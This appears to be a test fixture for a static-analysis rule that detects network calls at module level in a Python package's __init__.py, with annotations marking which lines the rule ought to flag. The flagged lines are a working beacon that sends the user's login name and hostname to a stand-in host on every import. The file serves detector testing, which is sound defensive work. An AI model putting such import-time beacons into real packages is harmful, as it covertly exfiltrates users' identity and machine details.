# canary-test: path=stealer_pkg/__init__.py artifact=wheel
"""Install beacon in a package's __init__.py: it reports the user and host on
every import. The docstring's example is not a call: requests.get("https://example.invalid/")
"""
import getpass
import platform
import urllib.request

__version__ = "0.3"

# ruleid: INIT_MODULE_LEVEL_NETWORK
urllib.request.urlopen("https://example.invalid/b?u=" + getpass.getuser(), timeout=2)

# ruleid: INIT_MODULE_LEVEL_NETWORK
try:
    urllib.request.urlopen("https://example.invalid/h?n=" + platform.node(), timeout=2)
except Exception:
    pass


def fetch(url):
    # ok: INIT_MODULE_LEVEL_NETWORK
    return urllib.request.urlopen(url, timeout=5).read()


# ok: INIT_MODULE_LEVEL_NETWORK
if __name__ == "__main__":
    fetch("https://example.invalid/")

# ok: MODULE_LEVEL_NETWORK, INIT_MODULE_LEVEL_PROCESS, MODULE_LEVEL_DOWNLOAD_AND_EXECUTE, MODULE_LEVEL_PYTHON_SPAWN
_done = True
